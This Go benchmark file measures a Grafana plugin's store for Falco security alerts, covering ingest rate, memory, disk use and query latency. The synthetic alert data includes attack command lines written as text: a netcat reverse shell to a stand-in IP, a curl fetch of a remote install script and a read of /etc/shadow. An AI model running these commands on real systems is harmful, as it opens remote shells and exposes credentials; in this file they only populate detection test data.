package plugin

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"runtime/pprof"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/grafana/grafana-plugin-sdk-go/backend"

	"github.com/containersec/container-security/pkg/events"
)

// benchScenario is a cluster's day of Falco alerts: 60 rules (a few noisy), 40 namespaces, 400 pods on 12 nodes.
type benchScenario struct {
	rules, namespaces, pods, hosts []string
	rng                            *rand.Rand
}

func newBenchScenario() *benchScenario {
	s := &benchScenario{rng: rand.New(rand.NewPCG(1, 2))}
	for i := range 60 {
		s.rules = append(s.rules, fmt.Sprintf("Rule %02d %s", i, []string{"Terminal shell in container", "Read sensitive file untrusted", "Drop and execute new binary", "Contact K8S API Server From Container"}[i%4]))
	}
	for i := range 40 {
		s.namespaces = append(s.namespaces, fmt.Sprintf("team-%02d", i))
	}
	for i := range 400 {
		s.pods = append(s.pods, fmt.Sprintf("app-%03d-7c9d8f6b5-%05d", i, i*7919%99991))
	}
	for i := range 12 {
		s.hosts = append(s.hosts, fmt.Sprintf("ip-10-0-%d-%d.eu-west-1.compute.internal", i/4, i))
	}
	return s
}

var benchPriorities = []string{"Critical", "Error", "Warning", "Warning", "Notice", "Notice", "Notice", "Informational"}

// body is one falcosidekick webhook request (one event, fresh uuid), shaped like a real Falco 0.44 alert. It is
// written with appends (every value is plain ASCII, so strconv.AppendQuote quotes it as JSON does) instead of
// json.Marshal or fmt: the senders stand in for falcosidekick, another process, and should cost this one as little
// CPU as possible.
func (s *benchScenario) body(i int, t time.Time) []byte {
	r := s.rng
	ri := min(int(r.ExpFloat64()*8), len(s.rules)-1)
	rule := s.rules[ri]
	pi := r.IntN(len(s.pods))
	pod, ns := s.pods[pi], s.namespaces[pi%len(s.namespaces)]
	host := s.hosts[pi%len(s.hosts)]
	cmd := benchCommands[r.IntN(len(benchCommands))]
	proc, _, _ := strings.Cut(cmd, " ")
	q := strconv.AppendQuote
	b := make([]byte, 0, 1536)
	b = append(b, `{"uuid":"`...)
	b = appendHex(b, uint64(r.Uint32()), 8)
	b = append(b, "-bench-4000-8000-"...)
	b = appendPadded(b, uint64(i), 12)
	b = append(b, `","rule":`...)
	b = q(b, rule)
	b = append(b, `,"priority":`...)
	b = q(b, benchPriorities[ri%len(benchPriorities)]) // a Falco rule has one priority
	b = append(b, `,"time":"`...)
	b = t.AppendFormat(b, time.RFC3339Nano)
	b = append(b, `","source":"syscall","hostname":`...)
	b = q(b, host)
	b = append(b, `,"tags":["container","maturity_stable",`...)
	b = q(b, []string{"shell", "filesystem", "network", "process"}[i%4])
	b = append(b, `,"T10`...)
	b = appendPadded(b, uint64(i%40), 2)
	b = append(b, `"],"output":"`...)
	b = t.AppendFormat(b, "15:04:05.000000000")
	b = append(b, ": "...)
	b = append(b, rule...)
	b = append(b, " | evt_type=execve user=root user_uid=0 process="...)
	b = append(b, proc...)
	b = append(b, " parent=containerd-shim command="...)
	b = append(b, cmd...)
	b = append(b, " container_id="...)
	b = appendHex(b, r.Uint64()&0xffffffffffff, 12)
	b = append(b, " container_name=app container_image_repository=ghcr.io/acme/"...)
	b = append(b, ns...)
	b = append(b, " k8s_pod_name="...)
	b = append(b, pod...)
	b = append(b, " k8s_ns_name="...)
	b = append(b, ns...)
	b = append(b, `","output_fields":{"container.id":"`...)
	b = appendHex(b, uint64(pi), 12)
	b = append(b, `","container.image.repository":"ghcr.io/acme/`...)
	b = append(b, ns...)
	b = append(b, `","container.image.tag":"1.`...)
	b = strconv.AppendInt(b, int64(pi%7), 10)
	b = append(b, `","container.name":"app","evt.time":`...)
	b = strconv.AppendInt(b, t.UnixNano(), 10)
	b = append(b, `,"evt.type":"execve","k8s.ns.name":`...)
	b = q(b, ns)
	b = append(b, `,"k8s.pod.name":`...)
	b = q(b, pod)
	b = append(b, `,"proc.cmdline":`...)
	b = q(b, cmd)
	b = append(b, `,"proc.exepath":"/usr/bin/`...)
	b = append(b, proc...)
	b = append(b, `","proc.name":`...)
	b = q(b, proc)
	b = append(b, `,"proc.pname":"containerd-shim","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0}}`...)
	return b
}

var benchCommands = []string{"bash -il", "cat /etc/shadow", "curl -s http://198.51.100.7/install.sh", "nc -e /bin/sh 203.0.113.5 4444", "python3 -c import pty"}

// appendHex appends v in lower-case hex, zero-padded to width digits (fmt's %0*x).
func appendHex(b []byte, v uint64, width int) []byte {
	return appendPaddedDigits(b, strconv.AppendUint(nil, v, 16), width)
}

// appendPadded appends v in decimal, zero-padded to width digits (fmt's %0*d).
func appendPadded(b []byte, v uint64, width int) []byte {
	return appendPaddedDigits(b, strconv.AppendUint(nil, v, 10), width)
}

func appendPaddedDigits(b, digits []byte, width int) []byte {
	for range width - len(digits) {
		b = append(b, '0')
	}
	return append(b, digits...)
}

// processCPU is the user+system CPU time this process has used: wall-clock rates on a shared machine say
// little, CPU per event says what a dedicated core would do.
func processCPU() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func peakRSSMB() float64 {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(line, "VmHWM:") {
			kb, _ := strconv.ParseFloat(strings.Fields(line)[1], 64)
			return kb / 1024
		}
	}
	return 0
}

type benchRecorder struct{ status int }

func (r *benchRecorder) Send(res *backend.CallResourceResponse) error {
	if res.Status != 0 {
		r.status = res.Status
	}
	return nil
}

// BenchmarkEvents prints the event store's figures as one table (run with -benchtime 1x; see README): it seeds
// EVENTS_BENCH_N events (default 1,000,000) over 24 h, then measures sustained ingest of EVENTS_BENCH_HTTP more
// (default 300,000) through the resource handler Grafana calls, query p95s, disk per million events and peak RSS.
func BenchmarkEvents(b *testing.B) {
	figs := benchSendersAndCap(b)
	fmt.Println()
	printFigures(figs)
	n := 1_000_000
	if *benchQuick {
		n = 50_000
	}
	if v, err := strconv.Atoi(os.Getenv("EVENTS_BENCH_N")); err == nil && v > 0 {
		n = v
	}
	// EVENTS_BENCH_DB reuses a store a previous run left (kill -9 keeps its temp dir) and only times the queries.
	dbPath := os.Getenv("EVENTS_BENCH_DB")
	ingestRows := dbPath == ""
	if ingestRows {
		dbPath = filepath.Join(b.TempDir(), "events.db")
	}
	d := benchDatasourceAt(b, dbPath, 100000)
	defer d.Dispose()
	scen := newBenchScenario()
	// The seeded events fill the 24 h before seedEnd; the sustained ones follow it; queries read the 24 h up to end.
	seedEnd := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
	end := seedEnd.Add(5 * time.Minute)
	start := end.Add(-24 * time.Hour)

	var seedElapsed, elapsed, cpu time.Duration
	var rssBefore, peak float64
	var refused atomic.Int64
	const senders = 256
	m := 300_000
	if *benchQuick {
		m = 20_000
	}
	if v, err := strconv.Atoi(os.Getenv("EVENTS_BENCH_HTTP")); err == nil && v >= 0 {
		m = v
	}
	if !ingestRows {
		n = 0                                  // the store holds its events already
		scen.rng = rand.New(rand.NewPCG(3, 4)) // new uuids, not the seeded ones again
	}
	step := 24 * time.Hour / time.Duration(max(n, 1))
	seedStart := seedEnd.Add(-24 * time.Hour)
	{
		// Seed: n events through the store's own Ingest in batches (what a long-running store holds).
		seedBegan := time.Now()
		seedBench(b, d, scen, n, seedStart, step)
		seedElapsed = time.Since(seedBegan)

		if m > 0 {
			// Sustained ingest on top: m single-event requests from concurrent senders through the resource handler.
			debug.FreeOSMemory()                                      // what seeding left behind is not ingest's
			_ = os.WriteFile("/proc/self/clear_refs", []byte("5"), 0) // reset the peak RSS mark (Linux)
			rssBefore = peakRSSMB()

			var next atomic.Int64
			var failed atomic.Int64
			var wg sync.WaitGroup
			var scenMu sync.Mutex
			// EVENTS_BENCH_CPUPROFILE=<file> writes a CPU profile of the sustained ingest alone.
			if f := os.Getenv("EVENTS_BENCH_CPUPROFILE"); f != "" {
				out, err := os.Create(f)
				if err != nil {
					b.Fatal(err)
				}
				if err := pprof.StartCPUProfile(out); err != nil {
					b.Fatal(err)
				}
				defer out.Close()
			}
			cpuBefore := processCPU()
			began := time.Now()
			for range senders {
				wg.Add(1)
				go func() {
					defer wg.Done()
					for {
						i := int(next.Add(1)) - 1
						if i >= m {
							return
						}
						scenMu.Lock()
						// As Falco produces them: in time order after the seeded day (at 20,000 events/s), shuffled
						// only by the senders' concurrency.
						body := scen.body(n+i, seedEnd.Add(time.Duration(i)*50*time.Microsecond))
						scenMu.Unlock()
						for {
							rec := &benchRecorder{}
							err := d.CallResource(context.Background(), &backend.CallResourceRequest{
								Method: "POST", Path: "events", URL: "events", Body: body,
								Headers: map[string][]string{"Content-Type": {"application/json"}, IngestTokenHeader: {"bench-token"}},
							}, rec)
							if err == nil && rec.status == 200 {
								break
							}
							if rec.status == 503 {
								refused.Add(1)
								time.Sleep(time.Millisecond)
								continue
							}
							failed.Add(1)
							break
						}
					}
				}()
			}
			wg.Wait()
			// Ingest ends when the last event is also indexed (queries find it at once, from the unindexed tail).
			if res := runBenchQuery(d, QueryTypeEvents, `{"limit":1,"filters":{"sources":["syscall"]}}`, start, end.Add(time.Hour), time.Minute); res.Error != nil {
				b.Fatal(res.Error)
			}
			if w, ok := d.reader.(interface{ WaitIndexed(context.Context) }); ok {
				w.WaitIndexed(context.Background())
			}
			elapsed = time.Since(began)
			cpu = processCPU() - cpuBefore
			pprof.StopCPUProfile()
			peak = peakRSSMB()
			if failed.Load() > 0 {
				b.Fatalf("%d requests failed", failed.Load())
			}
		}
	}
	st, err := d.reader.Status(context.Background())
	if err != nil || (ingestRows && st.Events != int64(n+m)) || st.Events == 0 {
		b.Fatalf("stored %d of %d events (%v)", st.Events, n+m, err)
	}
	total := int(st.Events)

	type row struct{ name, value, target string }
	fmt.Printf("\n| measurement (%d events over 24 h, GOMAXPROCS=%d) | figure | target |\n|---|---|---|\n", total, runtime.GOMAXPROCS(0))
	printRow := func(r row) { fmt.Printf("| %s | %s | %s |\n", r.name, r.value, r.target) }
	rows := []row{
		{fmt.Sprintf("seeding %d events through the store in batches of 2,000", n), fmt.Sprintf("%.0f events/s", float64(n)/seedElapsed.Seconds()), ""},
		{fmt.Sprintf("sustained ingest on top: %d falcosidekick-shaped single-event requests from %d concurrent senders, until the last is findable", m, senders), fmt.Sprintf("%.0f events/s", float64(m)/elapsed.Seconds()), ">= 20,000 events/s"},
		{"ingest CPU time of the whole process (handler, store, senders)", fmt.Sprintf("%.0f µs per event = %.0f events per CPU-second", float64(cpu.Microseconds())/float64(m), float64(m)/cpu.Seconds()), ""},
		{"503 answers while queue full (retried)", strconv.FormatInt(refused.Load(), 10), ""},
		{"peak RSS during ingest (whole test process, senders included)", fmt.Sprintf("%.0f MB (%.0f MB before)", peak, rssBefore), "< 200 MB"},
		{fmt.Sprintf("disk per million events (%d stored)", total), fmt.Sprintf("%.0f MB", float64(st.SizeBytes)/float64(total)*1e6/(1<<20)), ""},
	}

	for _, r := range rows {
		if (ingestRows || !strings.HasPrefix(r.name, "seeding")) && (m > 0 || strings.HasPrefix(r.name, "disk") || strings.HasPrefix(r.name, "seeding")) {
			printRow(r)
		}
	}
	rows = rows[:0]
	p95 := func(queryType, js string, interval time.Duration) time.Duration {
		var times []time.Duration
		for range 10 {
			t0 := time.Now()
			res := runBenchQuery(d, queryType, js, start, end, interval)
			times = append(times, time.Since(t0))
			if res.Error != nil {
				b.Fatalf("%s %s: %v", queryType, js, res.Error)
			}
		}
		slices.Sort(times)
		return times[len(times)*95/100-1] // the 2nd slowest of 10
	}
	for _, q := range []struct{ name, js string }{
		{"no filter", `{}`},
		{"minPriority critical", `{"filters":{"minPriority":"critical"}}`},
		{"one rule", `{"filters":{"rules":["` + scen.rules[20] + `"]}}`},
		{"one namespace", `{"filters":{"namespaces":["team-07"]}}`},
		{"one pod", `{"filters":{"pods":["` + scen.pods[123] + `"]}}`},
		{"one hostname", `{"filters":{"hostnames":["` + scen.hosts[5] + `"]}}`},
		{"one source", `{"filters":{"sources":["syscall"]}}`},
		{"one tag", `{"filters":{"tags":["T1017"]}}`},
		{"one image", `{"filters":{"images":["ghcr.io/acme/team-03:1.3"]}}`},
		{"cluster", `{"filters":{"cluster":"nope"}}`},
		{"free text, a word in 20% of events", `{"filters":{"text":"shadow"}}`},
		{"free text, a phrase in 20% of events", `{"filters":{"text":"203.0.113.5 4444"}}`},
		{"free text, a pod name in 0.25% of events", `{"filters":{"text":"` + scen.pods[123] + `"}}`},
	} {
		rows = append(rows, row{"events limit 100, 24 h, " + q.name, fmt.Sprintf("p95 %.1f ms", float64(p95(QueryTypeEvents, q.js, time.Minute).Microseconds())/1000), "< 50 ms"})
		printRow(rows[len(rows)-1])
	}
	for _, g := range []string{"priority", "rule", "namespace", "tag"} {
		rows = append(rows, row{"eventCounts 24 h by " + g + " (1 min buckets)", fmt.Sprintf("p95 %.1f ms", float64(p95(QueryTypeEventCounts, `{"groupBy":"`+g+`"}`, time.Minute).Microseconds())/1000), "< 50 ms"})
		printRow(rows[len(rows)-1])
	}
	rows = append(rows, row{"eventCounts 24 h by priority, one namespace", fmt.Sprintf("p95 %.1f ms", float64(p95(QueryTypeEventCounts, `{"groupBy":"priority","filters":{"namespaces":["team-07"]}}`, time.Minute).Microseconds())/1000), "< 50 ms"})
	printRow(rows[len(rows)-1])
	rows = append(rows, row{"eventValues 24 h, pod", fmt.Sprintf("p95 %.1f ms", float64(p95(QueryTypeEventValues, `{"field":"pod"}`, time.Minute).Microseconds())/1000), ""})
	printRow(rows[len(rows)-1])

	fmt.Println()
	printFigures(figs) // the summary lines again, after the table

}

func runBenchQuery(d *Datasource, queryType, js string, from, to time.Time, interval time.Duration) backend.DataResponse {
	resp, _ := d.QueryData(context.Background(), &backend.QueryDataRequest{Queries: []backend.DataQuery{{RefID: "A", QueryType: queryType, JSON: []byte(js), Interval: interval,
		TimeRange: backend.TimeRange{From: from, To: to}}}})
	return resp.Responses["A"]
}

// seedBench stores n of the scenario's events, step apart from start, through the store's own Ingest in batches of
// 2,000 (what a long-running store holds), parsing the next batch while the store writes this one.
func seedBench(b *testing.B, d *Datasource, scen *benchScenario, n int, start time.Time, step time.Duration) {
	batches := make(chan []events.Event, 2)
	go func() {
		defer close(batches)
		for i := 0; i < n; {
			var batch []events.Event
			for ; i < n && len(batch) < 2000; i++ {
				evs, err := events.Parse(scen.body(i, start.Add(time.Duration(i)*step)), d.settings.parseOptions())
				if err != nil {
					panic(err)
				}
				batch = append(batch, evs...)
			}
			batches <- batch
		}
	}()
	for batch := range batches {
		if _, err := d.ingester.Ingest(context.Background(), batch); err != nil {
			b.Fatal(err)
		}
	}
}
